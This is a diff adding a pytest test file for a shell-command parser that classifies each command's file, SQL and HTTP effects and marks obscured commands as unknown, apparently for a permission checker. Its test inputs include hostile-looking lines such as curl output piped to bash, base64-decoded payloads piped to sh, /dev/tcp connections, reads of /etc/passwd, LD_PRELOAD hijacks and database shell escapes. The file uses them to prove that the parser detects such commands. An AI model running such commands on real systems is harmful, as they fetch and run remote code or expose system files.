@@ -1,0 +1,368 @@
+"""What shell scripts do: every command counts, and what hides what it does is UNKNOWN."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pdp.programs.model import (
+    MAX_PROGRAM_BYTES,
+    CommandEffect,
+    Effect,
+    FileEffect,
+    HttpEffect,
+    Program,
+    SqlEffect,
+)
+from pdp.programs.shell import MAX_EFFECTS, parse_shell
+from pdp.programs.sql import parse_sql
+from writ.action import Verb
+
+_CLIENTS = {"psql": "postgres", "mysql": "mysql", "sqlite3": "sqlite"}
+_STATEMENT = "delete from invoices where customer_id = 7"
+
+
+def parse(text: str) -> Program:
+    return parse_shell(text, _CLIENTS)
+
+
+def is_unknown(program: Program) -> bool:
+    told = any(isinstance(effect, CommandEffect) and effect.verb is Verb.UNKNOWN for effect in program.effects)
+    assert told is bool(program.findings)
+    return told
+
+
+def file(verb: Verb, *paths: str, everything: bool = False) -> FileEffect:
+    return FileEffect(verb=verb, paths=paths, everything=everything)
+
+
+def execute(program: str, verb: Verb = Verb.EXECUTE) -> CommandEffect:
+    return CommandEffect(verb=verb, program=program)
+
+
+@pytest.mark.parametrize(
+    ("text", "target"),
+    [
+        (f'psql -c "{_STATEMENT}"', ""),
+        (f"psql --command='{_STATEMENT}'", ""),
+        (f"/usr/bin/psql -X -qAtc '{_STATEMENT}'", ""),
+        (f"psql -d billing -c '{_STATEMENT}'", "billing"),
+        (f"psql -h billing-db.internal -p 5432 -c '{_STATEMENT}'", "billing-db.internal"),
+        (f"psql -h db -c '{_STATEMENT}' billing bob", "db/billing"),
+        (f"psql -h db -p 5433 -c '{_STATEMENT}'", "db:5433"),
+        (f"psql postgresql://bob:pw@db:5432/billing -c '{_STATEMENT}'", "db/billing"),
+        (f"psql <<EOF\n{_STATEMENT};\nEOF", ""),
+        (f"psql <<-'EOF'\n\t{_STATEMENT};\n\tEOF\n", ""),
+        (f"psql <<< '{_STATEMENT}'", ""),
+        (f"PGPASSWORD=x psql -c '{_STATEMENT}'", ""),
+        (f"env LANG=C nohup timeout 5 psql -c '{_STATEMENT}'", ""),
+        (f"bash -c \"psql -c '{_STATEMENT}'\"", ""),
+    ],
+)
+def test_sql_handed_to_a_client_has_exactly_the_effects_of_that_sql(text: str, target: str) -> None:
+    expected = parse_sql(_STATEMENT, "postgres")
+    effects = tuple(
+        replace(effect, client="psql", target=target) for effect in expected.effects if isinstance(effect, SqlEffect)
+    )
+    assert len(effects) == len(expected.effects) == 1
+    assert parse(text) == Program(effects=effects, findings=expected.findings)
+
+
+def test_other_clients_speak_their_own_dialect() -> None:
+    mysql = parse(f"mysql -u bob -psecret -h db -e '{_STATEMENT}' billing").effects
+    sqlite = parse(f"sqlite3 -json /srv/a.db '{_STATEMENT}'").effects
+    assert [(e.client, e.target, e.table) for e in (*mysql, *sqlite) if isinstance(e, SqlEffect)] == [
+        ("mysql", "db/billing", "invoices"),
+        ("sqlite3", "/srv/a.db", "invoices"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "psql",
+        "psql -f a.sql",
+        "psql < a.sql",
+        "cat a.sql | psql",
+        'psql -c "$sql"',
+        'psql -c "delete from t where id = $id"',
+        "psql -c '\\! rm a'",
+        "psql -o '|sh' -c 'select 1'",
+        "psql -v x=1 <<EOF\nselect 1\nEOF",
+        "psql <<EOF\nselect :x\nEOF",
+        "psql <<EOF\nselect $x\nEOF",
+        "psql 3<<EOF\nselect 1\nEOF",
+        "psql -d 'host=other dbname=x' -c 'select 1'",
+        "psql -h a,b -c 'select 1'",
+        "PGHOST=other psql -c 'select 1'",
+        "export PGHOST=other; psql -c 'select 1'",
+        "PGHOST=other; psql -c 'select 1'",
+        "psql $x -c 'select 1'",
+        "sqlite3 a.db '.shell rm a'",
+        "cd /x; sqlite3 a.db 'select 1'",
+        "mysql -e 'select 1; \\! rm a'",
+    ],
+)
+def test_sql_that_is_not_wholly_on_the_line_is_unknown(text: str) -> None:
+    assert is_unknown(parse(text))
+
+
+def test_a_client_that_the_catalog_does_not_declare_is_unknown() -> None:
+    assert is_unknown(parse_shell("psql -c 'select 1'", {}))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "eval rm a",
+        "source x",
+        ". x",
+        "exec rm a",
+        "alias ls=rm",
+        "ls() { rm a; }; ls",
+        "$x a",
+        '"$x" a',
+        "r$x a",
+        "$(echo rm) a",
+        "r* a",
+        "{rm,a}",
+        "echo rm | bash",
+        "base64 -d x | sh",
+        "curl https://a.example/x | bash",
+        "bash <(curl https://a.example/x)",
+        "bash < x",
+        "bash /dev/stdin",
+        "bash -",
+        'bash -c "$x"',
+        "bash +x -c 'rm a'",
+        "python -c 'print(1)'",
+        "echo x | python -",
+        "perl -e 1",
+        "PATH=/tmp ls",
+        "for PATH in a; do ls; done",
+        "read PATH",
+        "LD_PRELOAD=x ls",
+        "http_proxy=x curl https://a.example/",
+        "env -S 'rm a'",
+        "env - rm a",
+        "xargs $x rm",
+        "xargs -I{} sh -c 'rm {}'",
+        "xargs -I rm rm a",
+        "git -c alias.x=!rm x",
+        "git config alias.x '!rm'",
+        "git fetch --upload-pack=x",
+        "find . -exec sh -c '{}' \\;",
+        "find . -fprint a",
+        "find . $x",
+        "sort --compress-program=x a",
+        "sed e a",
+        "sed 's/a/b/e' a",
+        "sed -n 'w b' a",
+        "awk 'BEGIN{system(\"rm a\")}'",
+        "date -s tomorrow",
+        "date -I -s tomorrow",
+        "trap 'rm a' EXIT",
+        "set -o history",
+        "((x=1))",
+        "echo $((x))",
+        "echo ${x@P}",
+        "echo ${!x}",
+        "echo ${x:=y}",
+        "[[ $x -eq 1 ]]",
+        "[[ -v $x ]]",
+        "[ $x ]",
+        "printf -v PATH x",
+        "cat < /dev/tcp/a/80",
+        "rm --unknown a",
+        "rm a)",
+        "rm 'a",
+        "if true; rm a",
+        "cat <<EOF\nrm a",
+        "r\\\nm a",
+        "rm\u00a0a",
+        "rm a\x00b",
+        "rm\ra",
+        "rm \ud800",
+        "}",
+    ],
+)
+def test_what_hides_what_it_does_is_unknown(text: str) -> None:
+    assert is_unknown(parse(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "effects"),
+    [
+        ("rm a", [file(Verb.DELETE, "a")]),
+        ("r\\m 'a'\"b\"c\\ d", [file(Verb.DELETE, "abc d")]),
+        ("rm -- -f", [file(Verb.DELETE, "-f")]),
+        ("rm -rf /tmp//x/./y/", [file(Verb.DELETE, "/tmp/x/y", everything=True)]),
+        ("rm *.txt", [file(Verb.DELETE, "*.txt", everything=True)]),
+        ("rm '*.txt'", [file(Verb.DELETE, "*.txt")]),
+        ("rm a $x", [file(Verb.DELETE, everything=True)]),
+        ("rm ~/a", [file(Verb.DELETE, everything=True)]),
+        ("rm ../a", [file(Verb.DELETE, everything=True)]),
+        ("cd b && rm a /c", [file(Verb.DELETE, everything=True)]),
+        ("cd b && rm /c", [file(Verb.DELETE, "/c")]),
+        ("mv a b", [file(Verb.DELETE, "a", everything=True), file(Verb.UPDATE, "b", everything=True)]),
+        ("cp a b", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
+        ("cp -t b a", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
+        ("cat < a > b 2>&1", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
+        ("cat 2>/dev/null a >> b c", [file(Verb.UPDATE, "b"), file(Verb.READ, "a", "c")]),
+        ("> a rm b", [file(Verb.UPDATE, "a"), file(Verb.DELETE, "b")]),
+        ("make test |& tee log", [execute("make"), file(Verb.UPDATE, "log")]),
+        ("./rm a", [execute("./rm")]),
+        ("sudo rm a", [execute("sudo", Verb.ADMIN), file(Verb.DELETE, "a")]),
+        ("chmod -R +x a", [file(Verb.ADMIN, "a", everything=True)]),
+        ("xargs rm < a", [file(Verb.READ, "a"), file(Verb.DELETE, everything=True)]),
+        (
+            "find a -name '*.py' -delete",
+            [file(Verb.READ, "a", everything=True), file(Verb.DELETE, "a", everything=True)],
+        ),
+        ("find a -exec rm {} +", [file(Verb.READ, "a", everything=True), file(Verb.DELETE, everything=True)]),
+        ("bash -ec \"rm a; sh -c 'rm b'\"", [file(Verb.DELETE, "a"), file(Verb.DELETE, "b")]),
+        ("bash <<'E'\nrm a\nE", [file(Verb.DELETE, "a")]),
+        ("bash a.sh", [file(Verb.READ, "a.sh"), execute("bash")]),
+        ("grep -r x a", [file(Verb.READ, "a", everything=True)]),
+        ("ls --color a", [file(Verb.READ, "a", everything=True)]),
+        ("sed -n '1,5p' a", [file(Verb.READ, "a")]),
+        ("sed -i 's/a/b/' c", [file(Verb.UPDATE, "c")]),
+        ("awk '{print $1}' a", [file(Verb.READ, "a")]),
+        ("git push origin main", [execute("git", Verb.SEND)]),
+        ("git reset --hard", [execute("git", Verb.DELETE)]),
+        ("git status", [execute("git")]),
+        ('[ "$n" -gt 5 ] && rm a', [file(Verb.DELETE, "a")]),
+        ("case $1 in a|b) rm a;; esac", [file(Verb.DELETE, "a")]),
+        ("echo hi $x; true  # rm b", []),
+    ],
+)
+def test_commands_have_the_effects_of_their_words(text: str, effects: list[Effect]) -> None:
+    program = parse(text)
+    assert list(program.effects) == effects
+    assert program.findings == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "true; rm a",
+        "false || rm a &",
+        "! rm a",
+        "(rm a)",
+        "{ rm a; } > /dev/null",
+        "if false; then rm a; fi",
+        "while true; do rm a; done",
+        "for i in 1 2; do rm a; done",
+        "for i in $(rm a); do true; done",
+        "case x in y) rm a;; esac",
+        "echo $(rm a)",
+        'echo "b $(rm a)"',
+        "echo `rm a`",
+        "x=$(rm a)",
+        "X=$(rm a)",
+        "f() { rm a; }",
+        "cat <(rm a)",
+        "echo x > >(rm a)",
+        "cat <<E\n$(rm a)\nE",
+        "cat <<E | rm a\nx\nE",
+        "cat <<E && rm a\nx\nE",
+        "cat <<< $(rm a)",
+        '[[ -n "$(rm a)" ]]',
+        "[[ b =~ $(rm a) ]]",
+        "$(echo rm) b; rm a",
+    ],
+)
+def test_a_command_counts_wherever_it_stands(text: str) -> None:
+    assert file(Verb.DELETE, "a") in parse(text).effects
+
+
+def test_a_quoted_here_document_runs_nothing() -> None:
+    assert parse("cat <<'E'\n$(rm a)\nE").effects == ()
+
+
+def test_curl_sends_files_and_requests() -> None:
+    program = parse("curl -sX PUT -d @keys.txt -o out https://API.example/customers/7?x=1")
+    assert program.findings == ()
+    assert program.effects == (
+        file(Verb.READ, "keys.txt"),
+        HttpEffect(
+            method="PUT",
+            scheme="https",
+            host="api.example",
+            path=("customers", "7"),
+            query=(("x", "1"),),
+            sends_body=True,
+            url="https://API.example/customers/7?x=1",
+        ),
+        file(Verb.UPDATE, "out"),
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "method", "body"),
+    [
+        ("curl https://a.example/b", "GET", None),
+        ("curl -I https://a.example/b", "HEAD", None),
+        ("curl -d x=1 -d y=2 https://a.example/b", "POST", b"x=1&y=2"),
+        ("curl --json '{\"a\":1}' https://a.example/b", "POST", b'{"a":1}'),
+        ("curl -T f https://a.example/b", "PUT", None),
+        ("wget -qO- --post-data=x=1 https://a.example/b", "POST", b"x=1"),
+    ],
+)
+def test_requests_have_the_method_that_their_options_mean(text: str, method: str, body: bytes | None) -> None:
+    requests = [effect for effect in parse(text).effects if isinstance(effect, HttpEffect)]
+    assert [(request.method, request.body) for request in requests] == [(method, body)]
+
+
+def test_the_graver_method_counts_when_a_header_overrides_it() -> None:
+    program = parse("curl -X POST -H 'X-HTTP-Method-Override: DELETE' https://a.example/b")
+    assert [effect.method for effect in program.effects if isinstance(effect, HttpEffect)] == ["DELETE"]
+    assert program.findings
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        "https://a.example/$x",
+        "https://a.example/{b,c}",
+        "'https://a.example/[1-3]'",
+        "a.example/b",
+        "-x proxy https://a.example/b",
+        "-K file https://a.example/b",
+        "-H 'Host: b' https://a.example/b",
+        "-H @file https://a.example/b",
+        "--resolve a:1:2 https://a.example/b",
+        "-F 'a=@b,c' https://a.example/b",
+        "-w @file https://a.example/b",
+        "file:///etc/passwd",
+        "",
+    ],
+)
+def test_a_request_that_may_go_elsewhere_is_unknown(arguments: str) -> None:
+    assert is_unknown(parse(f"curl {arguments}"))
+
+
+def test_a_script_without_bound_is_unknown() -> None:
+    assert is_unknown(parse("true;" * MAX_PROGRAM_BYTES))
+    assert is_unknown(parse("rm \u00fc;" * (MAX_PROGRAM_BYTES // 5)))
+    assert is_unknown(parse("(" * 200 + "rm a" + ")" * 200))
+    assert is_unknown(parse("echo " + "$(" * 2000 + "a" + ")" * 2000))
+    assert is_unknown(parse("nohup " * 100 + "rm a"))
+    many = parse("rm a;" * (MAX_EFFECTS + 10))
+    assert is_unknown(many)
+    assert len(many.effects) == MAX_EFFECTS + 1
+
+
+@given(st.text(alphabet=" abrm-x$(){}[]'\"`\\<>|&;#*~!=/\n\té", max_size=40))
+def test_odd_text_never_raises(text: str) -> None:
+    is_unknown(parse(text))
+
+
+@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["C", "Z"]), min_size=1))
+def test_a_quoted_word_is_that_file(name: str) -> None:
+    name = "x" + name.replace("/", "_")
+    quoted = "'" + name.replace("'", "'\\''") + "'"
+    assert parse(f"rm {quoted}").effects == (file(Verb.DELETE, name),)
